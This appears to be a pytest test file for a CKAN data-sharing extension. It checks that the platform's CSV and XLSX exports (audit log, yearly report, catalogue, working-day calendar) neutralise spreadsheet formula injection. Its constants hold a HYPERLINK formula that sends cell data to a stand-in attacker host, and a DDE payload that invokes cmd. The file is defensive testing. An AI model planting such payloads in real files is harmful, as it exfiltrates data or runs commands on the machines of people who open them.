"""Every CSV and XLSX the platform writes is safe to open (issue 14, item 6): the audit CSV,
the yearly report, the catalogue spreadsheet, the working-day calendar. Each is made through
its own route from data an attacker could have typed, then read back as a spreadsheet program
would read it."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from ckan.lib import signals
from ckan.tests import factories
from openpyxl import load_workbook

from ckanext.govshare import cells
from ckanext.govshare.catalogue import spreadsheet
from ckanext.govshare.core import clock
from ckanext.govshare.tests.access.conftest import World, request_form, world  # noqa: F401
from ckanext.govshare.tests.workdays.conftest import calendar_db  # noqa: F401
from ckanext.govshare.workdays.model import rows

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'
DDE = "-2+3+cmd|' /C calc'!A0"


def _sysadmin() -> dict[str, str]:
    return {"Authorization": factories.SysadminWithToken()["token"]}


def _no_formula_in(xlsx: bytes) -> None:
    """No sheet of the workbook holds a formula (an ``<f>`` element)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                xml = book.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name


def _cell(xlsx: bytes, value: str) -> Any:
    book = load_workbook(io.BytesIO(xlsx))
    found = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == value]
    assert found, value
    return found[0]


@pytest.mark.usefixtures("audit_db")
def test_audit_csv_with_a_failed_login_named_like_a_formula(app: Any) -> None:
    signals.failed_login.send(HYPERLINK)  # what CKAN's login view sends: the login tried
    response = app.get(
        "/en/govshare/audit/",
        query_string={"format": "csv", "action": "user_login_failed"},
        headers=_sysadmin(),
    )
    assert response.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert row["actor_name"] == "'" + HYPERLINK
    assert cells.csv_unquote(row["actor_name"]) == HYPERLINK
    assert row["seq"].isdigit()  # numbers are left as they are
    assert not any(cells.formula_like(value) for value in row.values())


def test_report_xlsx_with_a_rejection_reason_like_a_formula(
    app: Any,
    world: World,  # noqa: F811
) -> None:
    request = world.call("requester", "govshare_request_create", **request_form(world))
    world.call(
        "provider_officer",
        "govshare_request_decide",
        id=request["id"],
        decision="reject",
        reason=HYPERLINK,
    )
    year = str(clock.today().year)
    response = app.get(
        f"/govshare/reports/{world.provider['name']}/{year}.xlsx", headers=_sysadmin()
    )
    assert response.status_code == 200
    xlsx = response.get_data()
    _no_formula_in(xlsx)
    reason = _cell(xlsx, HYPERLINK)
    assert reason.data_type == "s" and reason.quotePrefix
    book = load_workbook(io.BytesIO(xlsx))
    numbers = [c.value for row in book.worksheets[0].iter_rows() for c in row]
    assert int(year) in numbers  # a number stays a number


def test_catalogue_spreadsheet_with_text_like_formulas_reads_back_as_written(
    app: Any,
    world: World,  # noqa: F811
) -> None:
    from ckan.tests import helpers

    helpers.call_action(
        "package_patch",
        context={"user": world.users["sysadmin"]["name"], "ignore_auth": True},
        id=world.unconditional["id"],
        title=HYPERLINK,
        notes=DDE,
    )
    response = app.get(
        f"/organization/{world.provider['name']}/catalogue.xlsx", headers=_sysadmin()
    )
    assert response.status_code == 200
    xlsx = response.get_data()
    _no_formula_in(xlsx)
    for value in (HYPERLINK, DDE):
        cell = _cell(xlsx, value)
        assert cell.data_type == "s" and cell.quotePrefix
    parsed = spreadsheet.read(io.BytesIO(xlsx))
    (entry,) = [r.entry for r in parsed.rows if r.entry.get("name") == world.unconditional["name"]]
    assert (entry["title"], entry["notes"]) == (HYPERLINK, DDE)  # the import takes it as it was


@pytest.mark.usefixtures("calendar_db")
def test_calendar_csv_export_and_its_upload_again(app: Any) -> None:
    headers = _sysadmin()
    url = "/en/ckan-admin/govshare/calendar"
    form = {"op": "set", "day": "2027-02-20", "is_workday": "true", "name": HYPERLINK}
    form["note"] = DDE
    assert app.post(url + "?year=2027", data=form, headers=headers).status_code == 200
    exported = app.get(url + "/export.csv", query_string={"year": 2027}, headers=headers)
    text = exported.get_data(as_text=True).lstrip("\ufeff")
    (row,) = [r for r in csv.DictReader(io.StringIO(text)) if r["date"] == "2027-02-20"]
    assert (row["name"], row["note"]) == ("'" + HYPERLINK, "'" + DDE)
    app.post(url + "?year=2027", data={"op": "delete", "day": "2027-02-20"}, headers=headers)
    assert rows() == []
    uploaded = app.post(
        url + "?year=2027",
        data={"op": "upload", "file": (io.BytesIO(text.encode()), "2027.csv")},
        headers=headers,
    )
    assert uploaded.status_code == 200
    (day,) = [r for r in rows() if r["day"].isoformat() == "2027-02-20"]
    assert (day["name"], day["note"]) == (HYPERLINK, DDE)  # the quotes were the export's
